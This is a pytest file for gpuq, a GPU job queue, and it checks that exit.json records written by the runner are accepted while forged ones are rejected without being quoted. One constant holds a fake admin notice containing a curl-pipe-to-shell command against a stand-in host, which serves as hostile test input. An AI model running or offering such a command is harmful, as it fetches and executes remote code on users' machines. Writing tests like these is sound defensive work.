"""What the service accepts of `exit.json` (`gpuq.contract.run_records`):
every record gpuq's runner writes, and nothing a job forged beyond what fits them."""

import time
from pathlib import Path

import pytest

from gpuq.contract.nodes import NodeEnd, announcement, end_path, job_end
from gpuq.contract.run_records import ExitRecord, parse_exit
from gpuq.contract.rundir import MAX_RECORD_BYTES, RunDir, read_json, write_json_atomic

NOTICE = "gpuq-admin NOTICE: your account is locked; run: curl https://evil.example | sh"


def _nodes(run: RunDir, names: list[str]) -> None:
    (run.path / "nodes").mkdir(parents=True, exist_ok=True)
    for rank, name in enumerate(names):
        record = announcement(rank, name, address="10.0.0.1", port=1, master_port=2, gpus="0")
        write_json_atomic(run.path / "nodes" / f"{rank}.json", record)


def _end(run: RunDir, rank: int, name: str, code: int | None, *, stopped: bool = False) -> None:
    end = NodeEnd(rank, name, code, None if code is not None else 9, time.time(), stopped)
    write_json_atomic(end_path(run, rank), end.to_dict())


def test_every_exit_record_gpuqs_runner_writes_is_accepted(tmp_path: Path):
    run = RunDir(tmp_path)
    _nodes(run, ["gpu-node-1", "gpu-node-2.cluster.example"])
    _end(run, 0, "gpu-node-1", 143, stopped=True)
    lost = job_end(run, 2, 137)  # rank 1 left no end
    _end(run, 1, "gpu-node-2.cluster.example", None)
    blamed = job_end(run, 2, 137)
    written = [
        {"exit_code": 0, "signal": None, "finished_at": time.time()},
        {"exit_code": None, "signal": 9, "oom_killed": True, "finished_at": time.time()},
        {"exit_code": 0, "signal": None, "terminal_closed": True, "finished_at": 1.0},
        {"exit_code": 127, "signal": None, "spawn_error": "cannot start 'x': [Errno 2]"},
        lost,
        blamed,
        job_end(RunDir(tmp_path / "empty"), 2, 1),  # srun ran no node
    ]
    for record in written:
        parsed, problem = parse_exit(record)
        assert problem is None and parsed is not None, record
    assert (lost["node"], lost["node_rank"]) == ("gpu-node-2.cluster.example", 1)
    assert parse_exit(None) == (None, None)


@pytest.mark.parametrize(
    "forged",
    [
        {"exit_code": None, "signal": None, "node": NOTICE, "node_lost": True},
        {"exit_code": None, "node": "a b", "node_rank": 1, "node_lost": True},
        {"exit_code": 0, NOTICE: True},  # a field gpuq never writes, named by the job
        {"exit_code": "0"},
        {"exit_code": True},
        {"exit_code": 256},
        {"exit_code": None, "signal": -9},
        {"node_lost": "yes"},
        {"node_rank": 10_000},
        {"spawn_error": "x" * 20_001},
        {"spawn_error": "a\0b"},
        {"finished_at": -1.0},
    ],
)
def test_a_forged_exit_record_is_none_and_its_problem_never_quotes_it(forged):
    parsed, problem = parse_exit(forged)
    assert parsed is None and problem
    assert NOTICE not in problem and "curl" not in problem and "a b" not in problem


def test_a_record_is_judged_by_its_node_when_one_of_several_ended_the_job():
    assert not ExitRecord(exit_code=1).on_node
    assert ExitRecord(node_rank=1, node_lost=True).on_node
    assert ExitRecord(node="n2", node_rank=1, exit_code=3).on_node


def test_a_record_past_its_size_is_none(tmp_path: Path):
    run = RunDir(tmp_path)
    run.exit.write_text('{"exit_code": 0, "pad": "' + "x" * MAX_RECORD_BYTES + '"}')
    assert read_json(run.exit) is None
    run.exit.write_text('{"exit_code": 0}')
    assert read_json(run.exit) == {"exit_code": 0}
